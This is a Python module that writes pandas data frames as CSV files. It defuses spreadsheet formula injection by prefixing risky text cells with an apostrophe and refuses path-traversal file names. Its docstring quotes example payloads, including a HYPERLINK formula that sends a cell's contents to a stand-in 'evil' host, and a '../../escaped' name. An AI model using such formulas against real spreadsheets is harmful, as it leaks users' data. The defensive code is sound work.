"""CSV files a spreadsheet can open without running anything from the data.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a TAB or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://evil/?"&A1)``, ``@SUM(…)``,
``+1+1``). As OWASP advises for CSV injection, every text cell jkit writes that starts with one
of those characters gets a leading apostrophe (``'=HYPERLINK(…)``), which spreadsheets show as
text. Numbers are written as numbers (a negative number stays ``-3.5``): only text cells are
changed, so the file still reads back with pandas to the same numbers.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

__all__ = ["FORMULA_STARTS", "file_slug", "neutralise", "neutralise_frame", "to_csv_text", "write_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column names and index labels are neutralised."""
    out = frame.copy()
    for col in out.columns:
        series = out[col]
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype) or isinstance(
            series.dtype, pd.CategoricalDtype
        ):
            out[col] = series.astype(object).map(neutralise)
    out.columns = [neutralise(str(c)) if isinstance(c, str) else c for c in out.columns]
    if out.index.dtype == object:
        out.index = out.index.map(neutralise)
    return out


def to_csv_text(frame: pd.DataFrame, **kwargs) -> str:
    """The CSV text of ``frame`` with formula-like cells neutralised (``index=False`` by default)."""
    import csv

    kwargs.setdefault("index", False)
    safe = neutralise_frame(frame)
    has_cr = any(
        safe[c].map(lambda v: isinstance(v, str) and "\r" in v).any() for c in safe.columns
        if safe[c].dtype == object or pd.api.types.is_string_dtype(safe[c].dtype)
    )
    if has_cr:  # pandas leaves a cell with a carriage return unquoted, which splits the row for readers
        kwargs.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    return safe.to_csv(**kwargs)


def file_slug(name: object, limit: int = 60) -> str:
    """A file-name part made from a name from data: letters, digits, ``-`` and ``_`` only.

    A stage called ``consider ../../escaped`` must not choose where a file is written.
    """
    import re

    slug = re.sub(r"[^\w-]+", "_", str(name), flags=re.ASCII).strip("_")[:limit]
    return slug or "unnamed"


def write_csv(frame: pd.DataFrame, path: str | Path, **kwargs) -> Path:
    """Write ``frame`` as a neutralised CSV at ``path`` (atomically: a reader never sees half a file)."""
    import os
    import tempfile

    path = Path(path)
    if ".." in path.parts:
        raise ValueError(f"{path}: a CSV path with '..' is refused (names from data must not choose folders)")
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as fh:
            fh.write(to_csv_text(frame, **kwargs))
        os.replace(tmp, path)
    finally:
        if os.path.exists(tmp):
            os.unlink(tmp)
    return path
